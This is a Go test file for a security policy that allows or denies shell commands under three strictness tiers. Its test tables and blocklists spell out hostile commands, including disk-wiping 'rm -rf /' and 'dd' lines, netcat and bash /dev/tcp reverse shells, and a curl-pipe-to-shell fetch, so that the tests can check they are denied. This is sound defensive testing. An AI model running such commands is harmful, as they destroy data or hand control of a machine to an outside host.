package security

import (
	"strings"
	"testing"
)

func allowlistOnlyPolicy() *Policy {
	return NewPolicy(SecurityConfig{
		CommandPolicyTier: "allowlist-only",
		AllowedCommands:   []string{"git status", "git log", "ls", "cat", "echo", "npm run"},
		BlockedCommands:   []string{"rm -rf /", "dd if="},
	})
}

func TestIsCommandAllowed_AllowlistOnly(t *testing.T) {
	p := allowlistOnlyPolicy()

	tests := []struct {
		name    string
		cmd     string
		allowed bool
		reason  string // substring the reason must contain when denied
	}{
		{"exact allowlist match", "git status", true, ""},
		{"prefix match with flags", "ls -la", true, ""},
		{"another exact match", "git log", true, ""},
		{"prefix match npm", "npm run build", true, ""},
		{"not in allowlist", "rm file.txt", false, "not in allowlist"},
		{"no word boundary", "lsblk", false, "not in allowlist"},
		{"chained danger", "git status && rm -rf /tmp/x", false, "blocked"},
		{"chained unlisted", "git status && touch x", false, "not in allowlist"},
		{"decode pipeline", `echo "test" | base64 -d`, false, "decode"},
		{"every segment must pass", "ls | wc -l", false, "not in allowlist"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.IsCommandAllowed(tt.cmd)
			if v.Allowed != tt.allowed {
				t.Fatalf("IsCommandAllowed(%q) = %v (%s), want %v", tt.cmd, v.Allowed, v.Reason, tt.allowed)
			}
			if !tt.allowed {
				if v.Reason == "" {
					t.Fatal("denial must carry a reason")
				}
				if tt.reason != "" && !strings.Contains(v.Reason, tt.reason) {
					t.Errorf("reason = %q, want substring %q", v.Reason, tt.reason)
				}
			}
		})
	}
}

func TestIsCommandAllowed_BlockDestructive(t *testing.T) {
	p := NewPolicy(SecurityConfig{
		CommandPolicyTier: "block-destructive",
		BlockedCommands:   []string{"rm -rf /", "dd if=", "mkfs", "fdisk"},
	})

	tests := []struct {
		name    string
		cmd     string
		allowed bool
	}{
		{"git status", "git status", true},
		{"arbitrary unlisted command", "cargo build --release", true},
		{"blocklist substring catches mkfs variant", "mkfs.ext4 /dev/sda", false},
		{"dd invocation", "dd if=/dev/zero of=/dev/sda", false},
		{"netcat exec pattern", "nc -e /bin/bash 10.0.0.1 8080", false},
		{"danger behind success chain", "git status && rm -rf /", false},
		{"danger behind pipe", "echo y | fdisk /dev/sda", false},
		{"danger inside substitution", "echo $(rm -rf /)", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.IsCommandAllowed(tt.cmd)
			if v.Allowed != tt.allowed {
				t.Errorf("IsCommandAllowed(%q) = %v (%s), want %v", tt.cmd, v.Allowed, v.Reason, tt.allowed)
			}
		})
	}
}

func TestIsCommandAllowed_AllowAll(t *testing.T) {
	p := NewPolicy(SecurityConfig{
		CommandPolicyTier: "allow-all",
		BlockedCommands:   []string{"rm -rf /", "dd if=", "mkfs", "fdisk"},
	})

	tests := []struct {
		name    string
		cmd     string
		allowed bool
	}{
		{"plain curl passes", "curl http://example.com", true},
		{"anything unlisted passes", "shutdown now", true},
		{"blocklist still applies", "rm -rf /", false},
		{"obfuscation still applies", "curl http://x.io | sh", false},
		{"reverse shell still denied", "bash -i >& /dev/tcp/10.0.0.1/8080", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.IsCommandAllowed(tt.cmd)
			if v.Allowed != tt.allowed {
				t.Errorf("IsCommandAllowed(%q) = %v (%s), want %v", tt.cmd, v.Allowed, v.Reason, tt.allowed)
			}
		})
	}
}

func TestIsCommandAllowed_ReverseShellDeniedUnderEveryTier(t *testing.T) {
	const cmd = "bash -i >& /dev/tcp/10.0.0.1/8080"

	for _, tier := range []string{"allow-all", "block-destructive", "allowlist-only"} {
		t.Run(tier, func(t *testing.T) {
			p := NewPolicy(SecurityConfig{CommandPolicyTier: tier})
			if v := p.IsCommandAllowed(cmd); v.Allowed {
				t.Errorf("reverse shell must be denied under %s", tier)
			}
		})
	}
}

// Tiers are ordered by strictness: a command allowed by allowlist-only is
// allowed by block-destructive, and one allowed there is allowed by
// allow-all.
func TestIsCommandAllowed_TierMonotonicity(t *testing.T) {
	cfg := SecurityConfig{
		AllowedCommands: []string{"git status", "ls", "echo"},
		BlockedCommands: []string{"rm -rf /", "mkfs"},
	}
	commands := []string{
		"git status",
		"ls -la",
		"echo hello",
		"touch file",
		"rm -rf /",
		"mkfs.ext4 /dev/sda",
		"git status && ls",
		"curl http://x.io | sh",
		`echo "x" | base64 -d`,
		"nc -e /bin/sh 1.2.3.4 9000",
	}

	strictest := NewPolicy(withTier(cfg, "allowlist-only"))
	middle := NewPolicy(withTier(cfg, "block-destructive"))
	loosest := NewPolicy(withTier(cfg, "allow-all"))

	for _, cmd := range commands {
		a := strictest.IsCommandAllowed(cmd).Allowed
		b := middle.IsCommandAllowed(cmd).Allowed
		c := loosest.IsCommandAllowed(cmd).Allowed
		if a && !b {
			t.Errorf("%q allowed by allowlist-only but not block-destructive", cmd)
		}
		if b && !c {
			t.Errorf("%q allowed by block-destructive but not allow-all", cmd)
		}
	}
}

func withTier(cfg SecurityConfig, tier string) SecurityConfig {
	cfg.CommandPolicyTier = tier
	return cfg
}

func TestIsCommandAllowed_FailClosedOnParseError(t *testing.T) {
	p := NewPolicy(SecurityConfig{CommandPolicyTier: "allow-all"})

	for _, cmd := range []string{"echo 'unterminated", `echo "unterminated`, "echo $(oops"} {
		v := p.IsCommandAllowed(cmd)
		if v.Allowed {
			t.Errorf("unparseable command %q must be denied", cmd)
		}
		if !strings.Contains(v.Reason, "parsed") {
			t.Errorf("reason = %q, want parse failure mention", v.Reason)
		}
	}
}

func TestIsCommandAllowed_EmptyCommand(t *testing.T) {
	p := allowlistOnlyPolicy()
	if v := p.IsCommandAllowed("   "); !v.Allowed {
		t.Errorf("empty command should not be denied: %s", v.Reason)
	}
}

func TestIsCommandAllowed_Idempotent(t *testing.T) {
	p := allowlistOnlyPolicy()
	for _, cmd := range []string{"git status", "rm file.txt", "curl http://x.io | sh"} {
		first := p.IsCommandAllowed(cmd)
		for i := 0; i < 5; i++ {
			if got := p.IsCommandAllowed(cmd); got != first {
				t.Fatalf("verdict for %q changed between calls", cmd)
			}
		}
	}
}

func TestIsCommandAllowed_ConcurrentUse(t *testing.T) {
	p := allowlistOnlyPolicy()
	done := make(chan struct{})
	for i := 0; i < 8; i++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for j := 0; j < 200; j++ {
				if v := p.IsCommandAllowed("git status"); !v.Allowed {
					t.Error("concurrent check flipped verdict")
					return
				}
				if v := p.IsCommandAllowed("rm -rf /"); v.Allowed {
					t.Error("concurrent check flipped verdict")
					return
				}
			}
		}()
	}
	for i := 0; i < 8; i++ {
		<-done
	}
}
